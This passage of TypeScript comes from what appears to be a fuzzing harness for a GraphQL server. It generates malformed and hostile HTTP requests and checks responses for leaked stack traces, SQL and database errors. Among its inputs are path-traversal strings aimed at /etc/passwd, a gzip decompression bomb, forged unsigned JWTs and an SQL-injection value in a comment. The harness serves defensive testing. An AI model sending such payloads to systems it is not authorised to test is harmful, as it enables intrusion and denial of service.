        '{"query": "{ __typename }"} trailing',
        '{"query": "\\x41"}',
        '{"query": "\\ud800"}',
        '\uFEFF{"query": "{ __typename }"}',
        '{"query": "{ __typename }", "query": 1}',
        'NaN',
        '{"query": "{ __typename }"}'.repeat(3),
      )
      .map((b) => raw('malformed JSON', b)),
    // Wrong or odd content types.
    fc
      .tuple(
        validBody,
        fc.constantFrom(
          'text/plain',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/graphql',
          'application/xml',
          'application/json; charset=latin1',
          'application/json; charset=utf-16',
          'application/json; charset=nope',
          'application/json;;;',
          'application/*',
          '*/*',
          '',
          'application/graphql-response+json',
          'application/json\u0001',
        ),
      )
      .map(([b, ct]) => raw(`content-type ${JSON.stringify(ct)}`, b, ct ? { 'content-type': ct } : {})),
    validBody.map((b) => raw('no content-type', b, {})),
    validBody.map((b) =>
      raw('utf-16 body', Buffer.from(b, 'utf16le'), { 'content-type': 'application/json; charset=utf-16' }),
    ),
    // Bodies that are JSON but not a GraphQL request.
    fc
      .constantFrom(
        '[]',
        '"{ __typename }"',
        '42',
        'null',
        'true',
        '{}',
        '[{"query": "{ __typename }"}, {"query": "{ __typename }"}]',
        '[' + '{"query": "{ __typename }"},'.repeat(200) + '{"query": "{ __typename }"}]',
        '{"query": ""}',
        '{"query": " "}',
        '{"Query": "{ __typename }"}',
      )
      .map((b) => raw('not a GraphQL request', b)),
    fc
      .constantFrom<unknown>(42, {}, [], null, true, ['{ __typename }'], { kind: 'Document', definitions: [] })
      .map((q) => raw('query not a string', JSON.stringify({ query: q }))),
    fc
      .constantFrom<unknown>([], 'x', 42, true, [1, 2], '{"a":1}')
      .map((v) => raw('variables not an object', JSON.stringify({ query: SIMPLE, variables: v }))),
    fc
      .constantFrom<unknown>(42, {}, [], 'Nope', '', true)
      .map((n) =>
        raw(
          'odd operationName',
          JSON.stringify({ query: 'query A { __typename } query B { __typename }', operationName: n }),
        ),
      ),
    fc
      .constantFrom<unknown>(
        'x',
        [],
        42,
        { persistedQuery: { version: 1, sha256Hash: 'deadbeef' } },
        { persistedQuery: { version: 2, sha256Hash: 'x' } },
        { persistedQuery: 'x' },
        { persistedQuery: null },
      )
      .map((e) => raw('odd extensions', JSON.stringify({ query: SIMPLE, extensions: e }))),
    fc.constant(
      raw(
        'persisted query without query',
        JSON.stringify({ extensions: { persistedQuery: { version: 1, sha256Hash: 'a'.repeat(64) } } }),
      ),
    ),
    fc
      .constantFrom(
        '{"query": 1e400}',
        '{"query": "{ __typename }", "variables": {"x": 1e400}}',
        '{"query": "query($n: Int) { orders(first: $n) { edges { cursor } } }", "variables": {"n": 1e400}}',
        '{"query": "query($n: Int) { orders(first: $n) { edges { cursor } } }", "variables": {"n": -1e400}}',
        '{"query": "query($n: Int) { orders(first: $n) { edges { cursor } } }", "variables": {"n": 1.0}}',
        '{"query": "query($n: Int) { orders(first: $n) { edges { cursor } } }", "variables": {"n": 1e2}}',
      )
      .map((b) => raw('odd JSON numbers', b)),
    fc
      .constantFrom(100, 3000, 20_000)
      .map((d) =>
        raw(
          `variables ${d} arrays deep`,
          `{"query": "query($a: [[String]]) { __typename }", "variables": {"a": ${deepArray(d)}}}`,
        ),
      ),
    fc
      .constantFrom(100, 3000, 20_000)
      .map((d) =>
        raw(
          `JSON ${d} objects deep`,
          `{"query": "{ __typename }", "extensions": ${'{"a":'.repeat(d)}1${'}'.repeat(d)}}`,
        ),
      ),
    fc.constantFrom(...STRUCTURAL_QUERIES).map((q) => raw('structural', JSON.stringify({ query: q }))),
    fc
      .constantFrom(...STRUCTURAL_QUERIES)
      .map((q) => raw('structural (anonymous)', JSON.stringify({ query: q }), JSON_CT, 'POST', '/graphql', false)),
    // GET with odd parameters.
    fc
      .tuple(
        fc.constantFrom(
          '',
          'query=',
          'query=%7B__typename%7D',
          'query={__typename}&query={__typename}',
          'query=mutation{logout{loggedOut}}',
          'query={__typename}&variables=notjson',
          'query={__typename}&variables=[]',
          'query={__typename}&variables=%7B%22a%22%3A1%7D',
          'query={__typename}&extensions=x',
          'query={__typename}&operationName=Nope',
          'query[]=x',
          'query[a]=1',
          'query=%00',
          'query=%ZZ',
          'query=' + '%7B'.repeat(3000),
          'query=' + encodeURIComponent('{ ' + '__typename '.repeat(5000) + '}'),
          'x=' + 'y'.repeat(7000),
        ),
        fc.boolean(),
      )
      .map(([qs, preflight]) =>
        raw(
          `GET ?${qs.slice(0, 40)}`,
          null,
          preflight ? { 'apollo-require-preflight': 'true' } : {},
          'GET',
          `/graphql${qs ? `?${qs}` : ''}`,
        ),
      ),
    // Other methods and paths.
    fc
      .tuple(fc.constantFrom('PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'TRACE', 'PROPFIND'), validBody)
      .map(([m, b]) => raw(`${m} /graphql`, m === 'HEAD' || m === 'TRACE' ? null : b, JSON_CT, m)),
    fc
      .tuple(
        fc.constantFrom(
          '/GRAPHQL',
          '/graphql/',
          '/graphql/x',
          '/graphql?',
          '/graphql%00',
          '/%2e%2e/%2e%2e/etc/passwd',
          '/assets/..%2f..%2fpackage.json',
          '/assets/%2e%2e/index.html',
          '/assets/nope.js',
          '/health',
          '/nope',
          '//graphql',
          '/graphql#x',
          '/?query={__typename}',
        ),
        fc.constantFrom('GET', 'POST'),
      )
      .map(([p, m]) =>
        raw(
          `${m} ${p}`,
          m === 'POST' ? VALID_BODIES[0] : null,
          m === 'POST' ? JSON_CT : { accept: 'application/json' },
          m,
          p,
        ),
      ),
    // Compressed bodies: valid, garbage, and a small body that inflates past the size limit.
    fc
      .tuple(validBody, fc.constantFrom('gzip', 'deflate'))
      .map(([b, enc]) =>
        raw(`${enc} body`, enc === 'gzip' ? gzipSync(b) : deflateSync(b), { ...JSON_CT, 'content-encoding': enc }),
      ),
    fc
      .tuple(byteGarbage, fc.constantFrom('gzip', 'deflate', 'br', 'compress', 'x-unknown', 'gzip, gzip', 'identity'))
      .map(([b, enc]) => raw(`garbage ${enc} body`, b, { ...JSON_CT, 'content-encoding': enc })),
    fc.constant(
      raw('gzip bomb', gzipSync(JSON.stringify({ query: SIMPLE, variables: { pad: 'x'.repeat(8 * 1024 * 1024) } })), {
        ...JSON_CT,
        'content-encoding': 'gzip',
      }),
    ),
    // Odd credentials.
    fc
      .tuple(
        validBody,
        fc.constantFrom(
          'Bearer',
          'Bearer ',
          'bearer x',
          'Bearer a b',
          'Basic YWRtaW46ZGVtbw==',
          'Token abc',
          'Bearer fk_',
          'Bearer fk_abc_def',
          'Bearer fk_' + 'a'.repeat(300),
          'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
          'Bearer eyJhbGciOiJIUzI1NiJ9.e30.AAAA',
          'Bearer ' + 'a'.repeat(6000),
          'Bearer %00',
          'Bearer \u00ff\u00fe',
          ',',
          'Bearer x, Bearer y',
        ),
      )
      .map(([b, a]) =>
        raw(
          `authorization ${JSON.stringify(a.slice(0, 30))}`,
          b,
          { ...JSON_CT, authorization: a },
          'POST',
          '/graphql',
          false,
        ),
      ),
  ];
  return fc.oneof(...cases);
}

/** Bodies just under and just over the body limit (their own generator: they are slow to send). */
export function sizeArb(maxBodyBytes: number): fc.Arbitrary<RawCase> {
  const padded = (total: number) => {
    const base = JSON.stringify({ query: SIMPLE, variables: { pad: '' } });
    return JSON.stringify({ query: SIMPLE, variables: { pad: 'x'.repeat(Math.max(0, total - base.length)) } });
  };
  return fc
    .constantFrom(-1, 0, 1, 100)
    .map((d) => raw(`body of limit${d >= 0 ? '+' : ''}${d} bytes`, padded(maxBodyBytes + d)));
}

// ---------------------------------------------------------------------------------------------------
// Sending and judging

export interface Reply {
  status: number;
  text: string;
  headers: http.IncomingHttpHeaders;
  /** Set when no HTTP answer arrived (connection reset, timeout). */
  transportError?: string;
}

const agents = new Map<string, http.Agent>();
function agentFor(localAddress: string | undefined): http.Agent {
  const key = localAddress ?? '';
  let a = agents.get(key);
  if (!a) {
    a = new http.Agent({ keepAlive: true, maxSockets: 64, localAddress });
    agents.set(key, a);
  }
  return a;
}

export function destroyAgents() {
  for (const a of agents.values()) a.destroy();
  agents.clear();
}

type Request = { method: string; path: string; headers: Record<string, string>; body: Buffer | null };

/**
 * Sends one request over a keep-alive connection. A reused connection that the server closed for being
 * idle just as it was reused is reset: like browsers, that request is sent once more on a new one.
 */
export async function send(
  base: string,
  req: Request,
  opts: { localAddress?: string; timeoutMs?: number } = {},
): Promise<Reply> {
  const first = await sendOnce(base, req, opts);
  // On a new connection indeed: the pool may hand out another socket the server is closing just then.
  return first.retry ? sendOnce(base, req, { ...opts, fresh: true }) : first;
}

function sendOnce(
  base: string,
  req: Request,
  opts: { localAddress?: string; timeoutMs?: number; fresh?: boolean },
): Promise<Reply & { retry?: boolean }> {
  // The path goes out as written (new URL would read "//graphql" as a host name).
  const url = new URL(base);
  return new Promise((resolve) => {
    let settled = false;
    const done = (r: Reply & { retry?: boolean }) => {
      if (!settled) {
        settled = true;
        resolve(r);
      }
    };
    const headers: Record<string, string | number> = { ...req.headers };
    if (req.body) headers['content-length'] = req.body.length;
    let r: http.ClientRequest;
    try {
      r = http.request(
        {
          host: url.hostname,
          port: url.port,
          method: req.method,
          path: req.path,
          headers,
          agent: opts.fresh
            ? new http.Agent({ keepAlive: false, localAddress: opts.localAddress })
            : agentFor(opts.localAddress),
        },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('error', (e) =>
            done({
              status: res.statusCode ?? 0,
              headers: res.headers,
              text: Buffer.concat(chunks).toString('utf8'),
              transportError: e.message,
            }),
          );
          res.on('end', () =>
            done({ status: res.statusCode ?? 0, headers: res.headers, text: Buffer.concat(chunks).toString('utf8') }),
          );
        },
      );
    } catch (e) {
      // The client refused to send it (e.g. an invalid header character): nothing reached the server.
      done({ status: -1, headers: {}, text: '', transportError: `not sent: ${(e as Error).message}` });
      return;
    }
    r.setTimeout(opts.timeoutMs ?? 30_000, () => {
      done({ status: 0, headers: {}, text: '', transportError: 'timeout' });
      r.destroy();
    });
    r.on('error', (e) => {
      const code = (e as NodeJS.ErrnoException).code ?? e.message;
      done({
        status: 0,
        headers: {},
        text: '',
        transportError: code,
        retry: r.reusedSocket && (code === 'ECONNRESET' || code === 'EPIPE'),
      });
    });
    r.end(req.body ?? undefined);
  });
}

/**
 * Signs of internals in an answer. `echo`: the fragment may legitimately come back when the request
 * itself contained it (an error message quoting a hostile value), so it only counts when it did not.
 */
const LEAKS: { name: string; re: RegExp; echo: boolean }[] = [
  { name: 'stack trace', re: /\n\s+at\s+[\w.<>$[\] ]+\(?[^\n]*:\d+:\d+/, echo: false },
  { name: 'source position', re: /[\w-]+\.(?:js|ts|mjs|cjs):\d+(?::\d+)?/, echo: true },
  { name: 'stacktrace', re: /stacktrace/i, echo: true },
  { name: 'node_modules', re: /node_modules/i, echo: true },
  { name: 'ORM', re: /QueryFailedError|TypeORMError|EntityNotFound|EntityPropertyNotFound|typeorm/i, echo: true },
  {
    name: 'SQL',
    re: /\bSELECT\s[\s\S]{0,300}?\sFROM\b|\bINSERT\s+INTO\b|\bUPDATE\s+"?\w+"?\s+SET\b|\bDELETE\s+FROM\b/i,
    echo: true,
  },
  {
    name: 'database error',
    re: /violates|duplicate key|syntax error at or near|invalid input syntax|invalid byte sequence|out of range for type|relation "[^"]*"|column "[^"]*"|SQLSTATE|current transaction is aborted|date\/time field value out of range|time zone displacement|could not serialize|deadlock detected|\bpg_\w+/i,
    echo: true,
  },
  {
    name: 'JS internals',
    re: /TypeError|ReferenceError|RangeError|SyntaxError: Unexpected|Cannot read propert|is not a function|is not iterable|undefined is not|Maximum call stack|ECONNREFUSED|ECONNRESET|\[object Object\]/i,
    echo: true,
  },
];

const OWN = HOSTILE_STRINGS.filter((h) => h.length >= 3).sort((x, y) => y.length - x.length);
function stripOwn(text: string): string {
  let out = text;
  for (const h of OWN) if (out.includes(h)) out = out.split(h).join(' ');
  return out;
}

const normalize = (s: string) => s.toLowerCase().replace(/[^a-z0-9]+/g, '');

function strings(v: unknown, out: string[] = []): string[] {
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) for (const x of v) strings(x, out);
  else if (v && typeof v === 'object') for (const x of Object.values(v)) strings(x, out);
  return out;
}

export interface Verdict {
  /** e.g. "200 data", "200 userErrors:NOT_FOUND", "400 GRAPHQL_VALIDATION_FAILED", "413 PAYLOAD_TOO_LARGE". */
  outcome: string;
  problems: string[];
}

/** Judges one answer: its outcome class and everything wrong with it. */
export function judge(reply: Reply, requestText: string, graphqlPath: boolean): Verdict {
  const problems: string[] = [];
  if (reply.transportError) {
    // No answer at all. The client refusing to send is fine; a timeout or a dropped connection is not.
    if (reply.status === -1) return { outcome: 'not sent', problems };
    return { outcome: `no answer (${reply.transportError})`, problems: [`no answer: ${reply.transportError}`] };
  }
  if (reply.status >= 500) problems.push(`HTTP ${reply.status}`);
  let body: any;
  try {
    body = reply.text ? JSON.parse(reply.text) : undefined;
  } catch {
    body = undefined;
  }
  // What the fuzzer itself stored (an API key named "1; SELECT pg_sleep(5)--") comes back as data later.
  const haystack = stripOwn(body !== undefined ? strings(body).join('\n') : reply.text);
  const request = normalize(requestText);
  for (const leak of LEAKS) {
    const m = leak.re.exec(haystack);
    if (!m) continue;
    if (leak.echo && request.includes(normalize(m[0]))) continue;
    problems.push(`${leak.name} shown: ${JSON.stringify(m[0].slice(0, 120))}`);
  }
  let outcome: string;
  const errors: unknown = body?.errors;
  if (Array.isArray(errors) && errors.length) {
    for (const e of errors as { message?: unknown; extensions?: { code?: unknown } }[]) {
      if (typeof e?.message !== 'string' || !e.message) problems.push('an error without a message');
      if (typeof e?.extensions?.code !== 'string')
        problems.push(`an error without extensions.code: ${JSON.stringify(e).slice(0, 200)}`);
      if (e?.extensions?.code === 'INTERNAL_SERVER_ERROR')
        problems.push(`INTERNAL_SERVER_ERROR: ${String(e.message).slice(0, 160)}`);
    }
    const codes = [
      ...new Set((errors as { extensions?: { code?: string } }[]).map((e) => e?.extensions?.code ?? 'NO_CODE')),
    ];
    outcome = `${reply.status} ${codes.join('+')}`;
  } else if (body && typeof body === 'object' && body.data !== undefined) {
    const userErrors = strings(
      Object.values((body.data ?? {}) as Record<string, { userErrors?: { code: string }[] } | null>).map((p) =>
        p && typeof p === 'object' && Array.isArray(p.userErrors) ? p.userErrors.map((u) => u.code) : [],
      ),
    );
    outcome = userErrors.length
      ? `${reply.status} userErrors:${[...new Set(userErrors)].sort().join('+')}`
      : `${reply.status} data`;
  } else if (body !== undefined) {
    outcome = `${reply.status} json`;
  } else {
    outcome = `${reply.status} ${reply.text ? 'text' : 'empty'}`;
    // The GraphQL endpoint answers in JSON, also when it refuses (HEAD has no body by definition).
    if (graphqlPath && reply.status !== 204 && reply.text && reply.status >= 400)
      problems.push(`not JSON: ${JSON.stringify(reply.text.slice(0, 160))}`);
  }
  return { outcome, problems };
}

/** Counts of outcomes and the first few problems, with what was sent. */
export class Tally {
  total = 0;
  byOutcome = new Map<string, number>();
  status5xx = 0;
  leaks = 0;
  internal = 0;
  untyped = 0;
  noAnswer = 0;
  problems: { problems: string[]; request: string; status: number; response: string }[] = [];
  problemCount = 0;

  add(verdict: Verdict, reply: Reply, request: string) {
    this.total++;
    this.byOutcome.set(verdict.outcome, (this.byOutcome.get(verdict.outcome) ?? 0) + 1);
    if (reply.status >= 500) this.status5xx++;
    if (verdict.problems.some((p) => / shown: /.test(p))) this.leaks++;
    if (verdict.problems.some((p) => p.startsWith('INTERNAL_SERVER_ERROR'))) this.internal++;
    if (verdict.problems.some((p) => p.startsWith('an error without') || p.startsWith('not JSON'))) this.untyped++;
    if (verdict.problems.some((p) => p.startsWith('no answer'))) this.noAnswer++;
    if (verdict.problems.length) {
      this.problemCount++;
      if (this.problems.length < 25)
        this.problems.push({
          problems: verdict.problems,
          request: request.slice(0, 600),
          status: reply.status,
          response: reply.text.slice(0, 600),
        });
    }
  }

  outcomes(): Record<string, number> {
    return Object.fromEntries([...this.byOutcome.entries()].sort((a, b) => b[1] - a[1]));
  }
}
